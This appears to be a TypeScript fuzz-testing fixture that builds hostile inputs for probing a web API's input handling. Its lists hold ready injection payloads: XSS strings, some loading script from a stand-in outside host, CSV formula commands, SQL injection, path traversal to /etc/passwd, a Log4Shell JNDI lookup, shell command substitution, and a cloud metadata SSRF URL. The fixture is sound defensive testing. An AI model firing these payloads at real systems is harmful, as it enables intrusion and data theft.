// What a hostile caller writes where a word is expected.
import fc from 'fast-check'

/** Sets a mark and calls out, whichever way it is read; tests look for both. */
export const mark = '__bufete_ran'
export const outside = 'http://outside.invalid'

export const scripts: readonly string[] = [
  `<img src=x onerror="window.${mark}=1">`,
  `"><script>window.${mark}=1</script>`,
  `'><svg/onload=window.${mark}=1>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `javascript:window.${mark}=1`,
  `<a href="javascript:window.${mark}=1">x</a>`,
  `</title></textarea></style><script src="${outside}/x.js"></script>`,
  `<img src="${outside}/beacon.png">`,
  `<link rel=stylesheet href=${outside}/x.css>`,
  `![x](${outside}/pixel.png)`,
  `[x](javascript:window.${mark}=1)`,
  `{{constructor.constructor('window.${mark}=1')()}}`,
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{7*7}}',
  `<style>@import "${outside}/x.css"</style>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=window.${mark}=1>`,
]

export const formulas: readonly string[] = [
  `=HYPERLINK("${outside}","x")`,
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '|=1',
  '%=1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
]

export const lineBreaks: readonly string[] = [
  'x\r\nBcc: victim@outside.invalid',
  'x\nX-Injected: 1',
  'x\r\n\r\n<html>',
  'x\r\nEND:VCALENDAR\r\nBEGIN:VEVENT',
  'x\nATTACH:http://outside.invalid/',
  'x\u2028y\u2029z',
  'x\u0085y',
  'WEBVTT\n\n00:00.000 --> 00:01.000\n<v x>',
  '--> x',
  'x\u000by\u000cz',
]

const odd: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfff',
  '\ud83d',
  '\u202Eevil\u202C',
  '\u2066x\u2069',
  '\uFEFF',
  '\u200B',
  'e\u0301'.repeat(40),
  'ﷺ'.repeat(30),
  '👩‍👩‍👧‍👦',
  'İstanbul ıI',
  'ß',
  'ﬃ',
  'Z̸̢̛͖a̵l̷g̶o̴',
  "' OR '1'='1",
  "'; DROP TABLE client; --",
  '" OR 1=1 --',
  "1' AND pg_sleep(5)--",
  '\\',
  '\\\\',
  "\\'",
  '$$',
  '$1',
  '%',
  '_',
  '%%%',
  '*',
  '?',
  ':*',
  '&',
  '|',
  '!',
  '()',
  "a' & 'b",
  '<->',
  '"',
  "'",
  '`',
  '((((((((((',
  '[',
  '{',
  '{{',
  '{#x}',
  '{/x}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  'C:\\con',
  'con',
  'nul',
  '.',
  '..',
  '....//',
  '%2e%2e%2f',
  'x/y',
  'a\\b',
  '~root',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'length',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  'true',
  'false',
  '[object Object]',
  'None',
  'nil',
  '0',
  '-0',
  '-1',
  '1e309',
  '1e400',
  '9007199254740993',
  '99999999999999999999999',
  '0x10',
  '1,5',
  '١٢٣',
  '1_000',
  ' 1',
  '1 ',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  '-271821-04-20',
  '2026-13-01T25:61:61Z',
  '2026-11-21T12:00:00.000Z',
  '+275760-09-13T00:00:00.000Z',
  '0001-01-01T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'FFFFFFFF-FFFF-4FFF-8FFF-FFFFFFFFFFFF',
  '{00000000-0000-4000-8000-000000000000}',
  'http://169.254.169.254/latest/meta-data/',
  '${jndi:ldap://outside.invalid/x}',
  '() { :; }; echo x',
  '`id`',
  '$(id)',
  '; ls',
  '| id',
  'admin@example.com\0',
  'a@b',
  'a@@b.c',
  '"x y"@example.com',
  `${'a'.repeat(64)}@${'b'.repeat(180)}.com`,
  'xn--80ak6aa92e.com',
  '787-555-0142',
]

/** Short enough to be sent by the thousand. */
export const hostileStrings: readonly string[] = [...odd, ...scripts, ...formulas, ...lineBreaks]

export const megabyte = 'm'.repeat(1_048_576)
const long: readonly string[] = [
  'x'.repeat(201),
  'x'.repeat(5_001),
  'ñ'.repeat(10_001),
  'x y '.repeat(20_000),
  ' '.repeat(50_000),
  '('.repeat(30_000),
  'a@'.repeat(20_000),
  '\n'.repeat(50_000),
  '1'.repeat(60_000),
  '<'.repeat(50_000),
  '-'.repeat(50_000),
]

export const anyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.constantFrom(...long) },
)

/** Written into JSON as it stands: numbers that are none, or that no double holds. */
export class RawJson {
  readonly text: string
  constructor(text: string) {
    this.text = text
  }
}

export const anyNumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    0,
    -1,
    1,
    0.5,
    -0.1,
    2 ** 31,
    2 ** 31 - 1,
    -(2 ** 31) - 1,
    2 ** 53,
    2 ** 63,
    Number.MAX_SAFE_INTEGER,
    Number.MIN_SAFE_INTEGER,
    1e21,
    1e308,
    5e-324,
  ),
  fc.constantFrom(
    ...['1e309', '-1e400', '-0', '1E+2', '123456789012345678901234567890', '0.1e-400'].map((text) => new RawJson(text)),
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
)

const deep = (levels: number): unknown => {
  let inner: unknown = 1
  for (let i = 0; i < levels; i += 1) inner = i % 2 ? [inner] : { a: inner }
  return inner
}

export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: anyString },
  { weight: 3, arbitrary: anyNumber },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      [],
      {},
      [[]],
      [null],
      { length: 1 },
      { toString: 'x' },
      { valueOf: 'x' },
      { $ne: null },
      { $gt: '' },
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(31, 33, 200).map(deep) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      Array.from({ length: 20_000 }, () => 0),
      Object.fromEntries(Array.from({ length: 3_000 }, (_, n) => [`k${n}`, n])),
      Array.from({ length: 300 }, () => 'x'.repeat(200)),
    ),
  },
)

export const pollution: readonly string[] = [
  '"__proto__":{"polluted":true}',
  '"constructor":{"prototype":{"polluted":true}}',
  '"prototype":{"polluted":true}',
]

/** Bodies that are not what they say, as text. */
export const brokenJson: readonly string[] = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '"',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  'NaN',
  'Infinity',
  '-',
  '01',
  '1.',
  '.5',
  '{"a":NaN}',
  'undefined',
  'null',
  'true',
  '0',
  '"text"',
  '[]',
  '{}{}',
  '{"a":1}x',
  '\uFEFF{}',
  '{"a":"\u0000"}',
  '{"a":"\\ud800"}',
  '{"\\u0000":1}',
  '{"a":"\\x"}',
  '/*x*/{}',
  `${'['.repeat(100_000)}`,
  `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
  `[${'[],'.repeat(60_000)}[]]`,
  `{"a":"${'\\u0000'.repeat(10_000)}"}`,
  `"${megabyte}"`,
  `{"name":"${'x'.repeat(255 * 1024)}"}`,
  `{${Array.from({ length: 8_000 }, (_, n) => `"${n}":1`).join(',')}}`,
]

export const contentTypes: readonly string[] = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-7',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json;;;',
  'application/json/json',
  'APPLICATION/JSON',
  'application/vnd.api+json',
  'json',
  '',
  ' ',
  'a/b; '.repeat(500),
  '*/*',
  'text/html; <script>',
]

const headerText = fc
  .oneof(
    fc.constantFrom(...hostileStrings),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom('x'.repeat(4_000), ','.repeat(3_000), ';q='.repeat(1_000), '"'.repeat(2_000)),
  )
  // What a client may not write at all is the matter of raw connections.
  .map((text) =>
    Buffer.from(text)
      .toString('latin1')
      .replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '')
      .trim(),
  )
const headerNames = [
  'accept',
  'accept-language',
  'accept-encoding',
  'cookie',
  'origin',
  'referer',
  'user-agent',
  'idempotency-key',
  'if-none-match',
  'if-modified-since',
  'if-range',
  'range',
  'x-request-id',
  'x-forwarded-for',
  'x-forwarded-proto',
  'x-forwarded-host',
  'forwarded',
  'x-http-method-override',
  'last-event-id',
  'content-language',
  'sec-fetch-site',
  'stripe-signature',
  'x-webhook-signature',
  'prefer',
  'via',
  'x-original-url',
  'authorization',
  'proxy-authorization',
  'content-encoding',
] as const
const likely: Readonly<Record<string, readonly string[]>> = {
  'accept-language': ['es', 'en', 'fr;q=0.8,pt', 'xx', 'es-PR,es;q=0.9,*;q=0.1', `${'en;q=0.1,'.repeat(400)}fr`],
  range: [
    'bytes=0-10',
    'bytes=5-',
    'bytes=-1',
    'bytes=0-0,2-2',
    'bytes=9-1',
    'bytes=99999999999999999999-',
    'items=0-1',
    `bytes=${'0-0,'.repeat(900)}1-1`,
  ],
  'content-encoding': ['gzip', 'br', 'deflate', 'identity', 'zstd', 'gzip, gzip'],
  'if-none-match': ['*', '"x"', 'W/"x"'],
  'x-forwarded-for': [
    '::1',
    '::ffff:10.0.0.1',
    '1.2.3.4, 5.6.7.8',
    'unknown',
    '[2001:db8::1]:80',
    '2001:db8::1%eth0',
    '999.1.1.1',
  ],
  origin: ['null', 'https://evil.invalid'],
  'idempotency-key': ['12345678', 'clave-de-repeticion', 'x'.repeat(200)],
  accept: ['text/html', 'application/json;q=0', 'image/*'],
  cookie: ['refresh=x', '__proto__=x', '=;;=', 'bufete=%00'],
}

export const someHeaders: fc.Arbitrary<Record<string, string>> = fc
  .array(
    fc
      .constantFrom(...headerNames)
      .chain((name) =>
        fc.tuple(fc.constant(name), fc.oneof(headerText, ...(likely[name] ? [fc.constantFrom(...likely[name])] : []))),
      ),
    { minLength: 1, maxLength: 3 },
  )
  .map((pairs) => Object.fromEntries(pairs))
